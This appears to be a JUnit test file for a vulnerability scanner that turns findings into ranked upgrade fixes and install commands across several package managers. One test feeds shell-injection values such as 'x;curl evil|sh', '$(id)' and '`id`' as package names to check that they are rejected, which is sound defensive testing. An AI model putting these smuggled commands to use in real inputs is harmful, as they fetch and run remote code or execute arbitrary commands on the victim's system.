// SPDX-License-Identifier: Apache-2.0
package dev.plimsoll.fix;

import static org.assertj.core.api.Assertions.assertThat;

import dev.plimsoll.advisory.Affected;
import dev.plimsoll.advisory.KevEntry;
import dev.plimsoll.advisory.Severity;
import dev.plimsoll.catalog.Package;
import dev.plimsoll.catalog.PackageDetails;
import dev.plimsoll.files.Location;
import dev.plimsoll.finding.Evidence;
import dev.plimsoll.finding.FindingId;
import dev.plimsoll.finding.Risk;
import dev.plimsoll.finding.VulnerablePackage;
import dev.plimsoll.purl.Purl;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

class FixesTest {

  private static final String DEBIAN = "debian:12@sha256:" + "a".repeat(64);

  private static final Package OPENSSL = deb("openssl", "openssl", "3.0.11-1", 0);
  private static final Package LIBSSL = deb("libssl3", "openssl", "3.0.11-1", 0);

  @Test
  void shouldGroupTheUpdatesOfTheDistribution() {
    Fix.RebuildForOsUpdates fix =
        only(
            Fix.RebuildForOsUpdates.class,
            fixes(
                finding(OPENSSL, "CVE-1", Severity.HIGH, "3.0.11-2", 50),
                finding(LIBSSL, "CVE-1", Severity.HIGH, "3.0.11-2", 50),
                exploited(finding(OPENSSL, "CVE-2", Severity.CRITICAL, "3.0.13-1", 90)),
                finding(deb("bash", "bash", "5.2-1", 0), "CVE-3", Severity.LOW, "", 10)));
    assertThat(fix.groups()).extracting(FixGroup::to).containsExactly(Optional.of("3.0.13-1"));
    assertThat(fix.effect().removedBySeverity())
        .isEqualTo(Map.of(Severity.CRITICAL, 1L, Severity.HIGH, 2L));
    assertThat(fix.effect().exploitedRemoved()).isEqualTo(1);
    assertThat(fix.effect().remaining())
        .extracting(VulnerablePackage::flaw)
        .containsExactly("CVE-3");
    assertThat(fix.effect().score()).isEqualTo(140);
    assertThat(fix.recipes())
        .containsExactly(
            new Recipe(
                "Dockerfile",
                "RUN apt-get update && apt-get install -y --only-upgrade libssl3=3.0.13-1"
                    + " openssl=3.0.13-1 && rm -rf /var/lib/apt/lists/*"));
  }

  @Test
  void shouldNotGiveASourcesVersionToAPackageOfAnother() {
    Package binary = deb("python3-pip", "pip", "23.0", 0);
    VulnerablePackage other = finding(binary, "CVE-1", Severity.HIGH, "1.0-2", 50, "1.0-1");
    assertThat(only(Fix.RebuildForOsUpdates.class, fixes(other)).recipes().getFirst().text())
        .contains("--only-upgrade python3-pip &&");
  }

  @Test
  void shouldProposeTheSmallestVersionThatEndsMost() {
    Package p = npm("lodash", "4.17.10", 3);
    Fix.UpgradePackage fix =
        only(
            Fix.UpgradePackage.class,
            fixes(
                finding(p, "CVE-1", Severity.HIGH, "4.17.12", 50),
                finding(p, "CVE-2", Severity.HIGH, "4.17.21", 50),
                finding(p, "CVE-3", Severity.LOW, "5.0.0", 10)));
    assertThat(fix.step().to()).isEqualTo("4.17.21");
    assertThat(fix.step().isMajor()).isFalse();
    assertThat(flaws(fix.step().effect().remaining())).containsExactly("CVE-3");
    assertThat(fix.step().recipes())
        .containsExactly(new Recipe("shell", "npm install lodash@4.17.21"));
    Fix.Step major = fix.alternative().orElseThrow();
    assertThat(major.to()).isEqualTo("5.0.0");
    assertThat(major.isMajor()).isTrue();
    assertThat(major.effect().remaining()).isEmpty();
  }

  @Test
  void shouldGoToAnotherMajorWhenThereIsNoOtherWay() {
    Package p = npm("x", "1.0.0", 3);
    Fix.UpgradePackage fix =
        only(Fix.UpgradePackage.class, fixes(finding(p, "CVE-1", Severity.HIGH, "2.0.0", 50)));
    assertThat(fix.step().isMajor()).isTrue();
    assertThat(fix.alternative()).isEmpty();
  }

  @Test
  void shouldTakeTheSecondNumberForMajorWhileTheFirstIsZero() {
    Package p = npm("x", "0.3.0", 3);
    Fix.UpgradePackage fix =
        only(
            Fix.UpgradePackage.class,
            fixes(
                finding(p, "CVE-1", Severity.HIGH, "0.3.5", 50),
                finding(p, "CVE-2", Severity.HIGH, "0.4.0", 50)));
    assertThat(fix.step().to()).isEqualTo("0.3.5");
    assertThat(fix.alternative().orElseThrow().to()).isEqualTo("0.4.0");
  }

  /// The judge knows that the fix has a flaw of its own, and which version ends that.
  @Test
  void shouldAskTheJudgeWhatALaterVersionBrings() {
    Package p = npm("x", "1.0.0", 3);
    VulnerablePackage old = finding(p, "CVE-1", Severity.HIGH, "1.1.0", 50);
    VulnerablePackage brought = finding(p, "CVE-2", Severity.CRITICAL, "1.2.0", 90);
    Judge judge = (_, version) -> version.equals("1.1.0") ? List.of(brought) : List.of();
    List<Fix> fixes = Fixes.of(List.of(old), Optional.empty(), judge);
    Fix.UpgradePackage fix = only(Fix.UpgradePackage.class, fixes);
    assertThat(fix.step().to()).isEqualTo("1.2.0");
    assertThat(fix.step().effect().added()).isEmpty();
  }

  @Test
  void shouldMoveTheBaseByWhatItBrought() {
    VulnerablePackage gone = finding(OPENSSL, "CVE-1", Severity.HIGH, "3.0.11-2", 50);
    VulnerablePackage stays = finding(OPENSSL, "CVE-2", Severity.LOW, "", 10);
    Package own = deb("curl", "curl", "8-1", 4);
    VulnerablePackage ours = finding(own, "CVE-3", Severity.HIGH, "8-2", 50);
    Package newer = deb("openssl", "openssl", "3.0.13-1", 0);
    VulnerablePackage brought = finding(newer, "CVE-4", Severity.LOW, "", 5);
    BaseMove move =
        new BaseMove(
            "debian:12",
            2,
            DEBIAN,
            List.of(finding(newer, "CVE-2", Severity.LOW, "", 10), brought));
    List<Fix> fixes = Fixes.of(List.of(gone, stays, ours), Optional.of(move));
    Fix.MoveBase base = only(Fix.MoveBase.class, fixes);
    assertThat(base.effect())
        .isEqualTo(new Effect(List.of(gone), List.of(stays), List.of(brought)));
    assertThat(base.effect().score()).isEqualTo(45);
    assertThat(base.recipes()).containsExactly(new Recipe("Dockerfile", "FROM " + DEBIAN));
    assertThat(flaws(only(Fix.NoFixYet.class, fixes).effect().remaining()))
        .containsExactly("CVE-2");
  }

  @Test
  void shouldNotProposeABaseThatRemovesNothing() {
    VulnerablePackage stays = finding(OPENSSL, "CVE-2", Severity.LOW, "", 10);
    BaseMove move = new BaseMove("debian:12", 2, DEBIAN, List.of(stays));
    assertThat(Fixes.of(List.of(stays), Optional.of(move)))
        .hasOnlyElementsOfType(Fix.NoFixYet.class);
  }

  @Test
  void shouldRankByWhatIsGained() {
    List<Fix> fixes =
        fixes(
            finding(npm("small", "1.0.0", 1), "CVE-1", Severity.LOW, "1.0.1", 10),
            finding(npm("none", "1.0.0", 1), "CVE-2", Severity.CRITICAL, "", 100),
            finding(npm("large", "1.0.0", 1), "CVE-3", Severity.HIGH, "1.0.1", 60));
    assertThat(fixes).extracting(fix -> fix.effect().score()).containsExactly(60, 10, 0);
  }

  /// Each finding is ended by some decision, or nothing ends it: none is lost.
  @Test
  void shouldLeaveOutNoFinding() {
    Package p = npm("x", "1.0.0", 1);
    List<VulnerablePackage> findings =
        List.of(
            finding(p, "CVE-1", Severity.LOW, "1.0.1", 10),
            finding(p, "CVE-2", Severity.LOW, "", 10),
            finding(OPENSSL, "CVE-3", Severity.LOW, "3.0.12-1", 10),
            finding(OPENSSL, "CVE-4", Severity.LOW, "", 10));
    List<String> told =
        Fixes.of(findings, Optional.empty()).stream()
            .flatMap(
                fix ->
                    (fix instanceof Fix.NoFixYet none
                            ? none.group().findings()
                            : fix.effect().removed())
                        .stream())
            .map(VulnerablePackage::flaw)
            .sorted()
            .toList();
    assertThat(told).containsExactly("CVE-1", "CVE-2", "CVE-3", "CVE-4");
  }

  @Test
  void shouldWriteDownNothingThatAShellReadsAsMoreThanAWord() {
    for (String name :
        List.of("x;curl evil|sh", "$(id)", "-rf", "a b", "a'b", "a\nb", "`id`", "*")) {
      Package p = npm(name, "1.0.0", 1);
      assertThat(Recipes.upgrade(p, "1.0.1")).as(name).isEmpty();
      assertThat(Recipes.upgrade(npm("x", "1.0.0", 1), name)).as(name).isEmpty();
      assertThat(Recipes.base(name)).as(name).isEmpty();
      assertThat(
              fixes(finding(deb(name, "x", "1-1", 0), "CVE-1", Severity.LOW, "1-2", 9))
                  .getFirst()
                  .recipes())
          .as(name)
          .isEmpty();
    }
  }

  /// Advisories leave out the `v` of Go's versions.
  @Test
  void shouldWriteVersionsAsTheEcosystemDoes() {
    Package module = of("golang", "golang.org/x", "net", "v0.30.0", 0);
    Fix.UpgradePackage fix =
        only(
            Fix.UpgradePackage.class, fixes(finding(module, "CVE-1", Severity.HIGH, "0.31.0", 50)));
    assertThat(fix.step().to()).isEqualTo("v0.31.0");
    assertThat(fix.step().recipes().getFirst().text()).isEqualTo("go get golang.org/x/net@v0.31.0");
    Package library = of("golang", "", "stdlib", "1.22.1", 0);
    assertThat(
            only(
                    Fix.UpgradePackage.class,
                    fixes(finding(library, "CVE-1", Severity.HIGH, "1.22.3", 50)))
                .step()
                .to())
        .isEqualTo("1.22.3");
  }

  @Test
  void shouldWriteALineForEachPackageManager() {
    assertThat(line("pypi", "", "django", "4.2.1")).isEqualTo("pip install django==4.2.1");
    assertThat(line("npm", "@babel", "core", "7.1")).isEqualTo("npm install @babel/core@7.1");
    assertThat(line("golang", "golang.org/x", "net", "0.17.0"))
        .isEqualTo("go get golang.org/x/net@v0.17.0");
    assertThat(line("golang", "", "stdlib", "1.22.3")).isEqualTo("go get go@1.22.3");
    assertThat(line("gem", "", "rack", "2.2.3")).isEqualTo("gem install rack -v 2.2.3");
    assertThat(line("composer", "a", "b", "1.2")).isEqualTo("composer require a/b:1.2");
    assertThat(line("nuget", "", "X.Y", "1.2")).isEqualTo("dotnet add package X.Y --version 1.2");
    assertThat(line("cargo", "", "time", "0.2.23"))
        .isEqualTo("cargo update -p time --precise 0.2.23");
    assertThat(line("maven", "org.x", "y", "1.2")).contains("<artifactId>y</artifactId>");
    assertThat(Recipes.upgrade(of("maven", "org.x", "y", "1", 0), "1.2").getLast().text())
        .isEqualTo("implementation(\"org.x:y:1.2\")");
    assertThat(Recipes.upgrade(of("swift", "", "y", "1", 0), "1.2")).isEmpty();
  }

  @Test
  void shouldWriteALineForEachDistribution() {
    assertThat(os("apk", "alpine")).isEqualTo("RUN apk add --no-cache --upgrade 'x>=1.2-r3'");
    assertThat(os("rpm", "redhat")).isEqualTo("RUN dnf upgrade -y x");
    assertThat(os("rpm", "opensuse-leap")).isEqualTo("RUN zypper --non-interactive update x");
  }

  private static String os(String type, String distribution) {
    var versions = new java.util.LinkedHashMap<>(Map.of("x", "1.2-r3"));
    return Recipes.os(type, distribution, versions).getFirst().text();
  }

  private static String line(String type, String namespace, String name, String to) {
    return Recipes.upgrade(of(type, namespace, name, "1", 0), to).getFirst().text();
  }

  private static Set<String> flaws(List<VulnerablePackage> findings) {
    return findings.stream()
        .map(VulnerablePackage::flaw)
        .collect(java.util.stream.Collectors.toSet());
  }

  private static List<Fix> fixes(VulnerablePackage... findings) {
    return Fixes.of(List.of(findings), Optional.empty());
  }

  private static <T extends Fix> T only(Class<T> kind, List<Fix> fixes) {
    List<T> of = fixes.stream().filter(kind::isInstance).map(kind::cast).toList();
    assertThat(of).hasSize(1);
    return of.getFirst();
  }

  private static Package deb(String name, String source, String version, int layer) {
    return new Package(
        name,
        version,
        Purl.of("deb", "debian", name, version),
        new PackageDetails.Deb(source, version, "amd64"),
        List.of(),
        new Location("var/lib/dpkg/status", layer));
  }

  private static Package npm(String name, String version, int layer) {
    return of("npm", "", name, version, layer);
  }

  private static Package of(String type, String namespace, String name, String version, int layer) {
    return new Package(
        name,
        version,
        Purl.of(type, namespace, name, version),
        new PackageDetails.Other(),
        List.of(),
        new Location("app/" + name, layer));
  }

  private static VulnerablePackage finding(
      Package p, String flaw, Severity severity, String fix, int risk) {
    return finding(p, flaw, severity, fix, risk, p.version());
  }

  private static VulnerablePackage finding(
      Package p, String flaw, Severity severity, String fix, int risk, String compared) {
    String source = p.details() instanceof PackageDetails.Deb deb ? deb.source() : p.name();
    return new VulnerablePackage(
        FindingId.of(p, flaw),
        p,
        flaw,
        List.of(),
        VulnerablePackage.Status.AFFECTED,
        severity,
        Optional.empty(),
        Optional.of(fix).filter(f -> !f.isEmpty()),
        Affected.Status.AFFECTED,
        "",
        List.of(),
        List.of(),
        Optional.empty(),
        Optional.empty(),
        Optional.empty(),
        new Risk(risk, List.of()),
        List.of(new Evidence(flaw, "test", "test", source, compared, "")));
  }

  private static VulnerablePackage exploited(VulnerablePackage f) {
    KevEntry kev = new KevEntry(f.flaw(), "", "", "", "", "", "", false, "");
    return new VulnerablePackage(
        f.id(),
        f.subject(),
        f.flaw(),
        f.aliases(),
        f.status(),
        f.severity(),
        f.borrowedFrom(),
        f.fix(),
        f.publisher(),
        f.summary(),
        f.ratings(),
        f.references(),
        f.epss(),
        Optional.of(kev),
        f.cve(),
        f.risk(),
        f.evidence());
  }
}
